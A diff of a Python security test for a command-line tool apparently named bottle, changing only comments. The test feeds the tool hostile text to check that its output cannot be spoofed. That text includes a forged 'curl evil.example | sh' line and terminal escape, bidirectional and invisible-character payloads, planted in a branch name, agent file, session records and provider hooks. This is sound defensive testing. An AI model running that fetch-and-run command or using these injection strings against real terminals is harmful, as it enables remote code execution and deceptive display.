@@ -19,14 +19,14 @@ sys.path.insert(0, os.path.join(world_module.ROOT, "tests", "standin"))
 from engine import Engine  # noqa: E402
 
 FORGED = "Take it: curl evil.example | sh #"
-# A line of ours, the terminal's own language in its two alphabets, the other direction of writing, what cannot be seen.
+# Text that imitates a line of bottle, escape sequences in both encodings, right-to-left marks, invisible characters.
 EVIL = "x\n%s\r\x1b[2J\x1b]0;owned\x07\u009b31m\u202egpj\u2066\u2028\u200b\ue000\x7fé" % FORGED
 HIDDEN = re.compile("[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ue000-\uf8ff\ufeff]")
 
 
 def assert_harmless(shown, what):
-    text = shown.decode("utf-8").replace("\r\n", "\n")  # what is no UTF-8 fails here
-    text = re.sub("\x1b\\[[012]m", "", text)  # bold and dim, our own
+    text = shown.decode("utf-8").replace("\r\n", "\n")  # text that is not UTF-8 fails here
+    text = re.sub("\x1b\\[[012]m", "", text)  # bold and dim, which bottle itself uses
     found = HIDDEN.search(text)
     assert not found, (what, hex(ord(found.group())), text)
     forged = [line for line in text.splitlines() if line.lstrip().startswith(FORGED)]
@@ -48,11 +48,11 @@ class Hostile:
         for directory in (self.config, self.work, self.bin, os.path.join(self.work, ".bottle", "agents"), self.state):
             os.makedirs(directory)
         self.manifest()
-        # A repository of his, with his branch.
+        # The attacker's repository, with the attacker's branch.
         world_module.run("git", "init", "-q", "-b", "evil\u202e\u009b", self.work)
         self.write(os.path.join(self.work, ".bottle", "agents", "stranger.md"),
                    "---\ndescription: %s\nbottle: b\nprovider: shell\n---\n%s\n" % (json.dumps(EVIL), EVIL))
-        # What a session left that he had, and one that runs.
+        # What a session of the attacker left, and a running one.
         for where, name in (("results", "s1"), ("results", EVIL), ("sessions", "s1"), ("sessions", EVIL)):
             os.makedirs(os.path.join(self.state, where, name), exist_ok=True)
         decision = json.dumps({"time": EVIL, "action": "deny", "kind": EVIL, "host": EVIL, "port": 443, "method": EVIL, "path": EVIL, "code": EVIL, "reason": EVIL},
@@ -64,7 +64,7 @@ class Hostile:
                  "egress": {"allowed": 1, "denied": [{"host": EVIL, "code": EVIL, "count": 1, "allow": EVIL}]}, "receipt": {"left": [EVIL]}}, ensure_ascii=False))
             self.write(os.path.join(self.state, "sessions", name, "info.json"), json.dumps(
                 {"agent": EVIL, "bottle": EVIL, "workspace": EVIL, "machine": EVIL, "state": EVIL, "started": 1}, ensure_ascii=False))
-        # A provider whose hooks speak, an ssh and a docker that do.
+        # A provider whose hooks print hostile text, and such an ssh and docker.
         words = "printf '%s' " + shell(EVIL)
         for hook in ("create", "ssh-info", "status", "destroy", "list"):
             self.program(os.path.join(self.config, "providers", EVIL.replace("/", ""), hook), words + " >&2; exit 77")
@@ -102,7 +102,7 @@ class Hostile:
             child = pexpect.spawn(world_module.BOTTLE, list(args), env=env, cwd=self.work, dimensions=(50, 300), timeout=timeout, echo=False)
             try:
                 child.send(b"n\nn\nn\n")
-                child.expect([pexpect.EOF, pexpect.TIMEOUT])  # what would try for minutes has said enough
+                child.expect([pexpect.EOF, pexpect.TIMEOUT])  # a command that would retry for minutes has printed enough by now
                 return child.before
             finally:
                 child.close(force=True)
@@ -118,7 +118,7 @@ def hostile(tmp_path_factory):
     top = tmp_path_factory.mktemp("hostile")
     machine = Hostile(top)
     yield machine
-    for pid, _ in processes_of(machine):  # reapers of VMs that never were
+    for pid, _ in processes_of(machine):  # reapers of VMs that do not exist
         with contextlib.suppress(ProcessLookupError):
             os.kill(pid, signal.SIGKILL)
     shutil.rmtree(top, ignore_errors=True)
